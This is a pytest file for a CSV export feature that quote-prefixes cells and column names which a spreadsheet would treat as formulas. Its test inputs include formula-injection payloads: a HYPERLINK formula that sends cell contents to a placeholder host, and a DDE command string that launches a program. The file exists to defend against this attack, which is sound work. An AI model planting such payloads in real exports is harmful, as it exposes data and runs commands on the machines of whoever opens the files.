"""The spreadsheet guard: no cell that a spreadsheet would run, each taken back exactly, all as it was without it."""

import csv
import json
from pathlib import Path

import pytest

from core.exporting import export_selection
from core.exporting.writing import FORMULA_STARTS
from core.selection import Selection
from core.selection.recipe import Amount
from core.workspace.loss_table import write_losses
from tests.fakes import ScoredRecord, build_scored_store

ALL = Selection("planets", amount=Amount("ratio", 1.0), collapse_duplicates=False)
TEXTS = (
    *(f"{start}1+1" for start in FORMULA_STARTS),
    *FORMULA_STARTS,
    '=HYPERLINK("http://x.example/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "'=1",
    "''+1",
    "'",
    "'quoted'",
    "plain",
    "",
    " =1",
    "1-1",
    '"=1"',
    "Ünïcode ＝",
    "a\r=b",
)


def taken_back(cell: str) -> str:
    """What a guarded cell held."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_STARTS) else cell


def cells_of(folder: Path, guard: bool, batch_of: int = 1) -> list[dict[str, str]]:
    rows = [
        ScoredRecord(
            "chat", 2.0, 1.0, response=f"{number}", original=json.dumps({"text": text, "n": -number - 1}).encode()
        )
        for number, text in enumerate(TEXTS * batch_of)
    ]
    with build_scored_store(folder / "workspace", rows) as store:
        report = export_selection(store, ALL, folder / "out.csv", spreadsheet_guard=guard)
    assert json.loads(report.manifest_path.read_text())["output"]["spreadsheet_guard"] is guard
    with open(report.path, encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_without_the_guard_every_cell_is_the_records_text(tmp_path: Path) -> None:
    assert [row["text"] for row in cells_of(tmp_path, guard=False)] == list(TEXTS)


def test_with_it_no_text_begins_a_formula_and_each_is_taken_back_exactly(tmp_path: Path) -> None:
    found = [row["text"] for row in cells_of(tmp_path, guard=True)]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in found)
    assert [taken_back(cell) for cell in found] == list(TEXTS)


def test_numbers_stay_numbers_under_the_guard(tmp_path: Path) -> None:
    found = [row["n"] for row in cells_of(tmp_path, guard=True)]
    assert found == [str(-number - 1) for number in range(len(TEXTS))]


@pytest.mark.parametrize("name", ["=1+1", "@x", "+y"])
def test_the_names_of_columns_are_guarded_too(tmp_path: Path, name: str) -> None:
    rows = [ScoredRecord("=domain", 2.0, 1.0, original=json.dumps({name: "a"}).encode())]
    with build_scored_store(tmp_path / "workspace", rows) as store:
        report = export_selection(store, ALL, tmp_path / "out.csv", with_scores=True, spreadsheet_guard=True)
    header, line = report.path.read_text(encoding="utf-8").splitlines()
    assert header.startswith(f'"\'{name}"')
    assert '"\'=domain"' in line


@pytest.mark.parametrize("guard", [False, True])
def test_a_table_of_losses_guards_its_domains_too(tmp_path: Path, guard: bool) -> None:
    domains = ["=1+1", "chat", "'@x"]
    rows = [ScoredRecord(domain, 2.0, 1.0, response=domain) for domain in domains]
    with build_scored_store(tmp_path / "workspace", rows) as store:
        assert write_losses(store, "planets", tmp_path / "losses.csv", spreadsheet_guard=guard) == 3
    with open(tmp_path / "losses.csv", encoding="utf-8", newline="") as file:
        found = [row["domain"] for row in csv.DictReader(file)]
    assert found == (["'=1+1", "chat", "''@x"] if guard else domains)
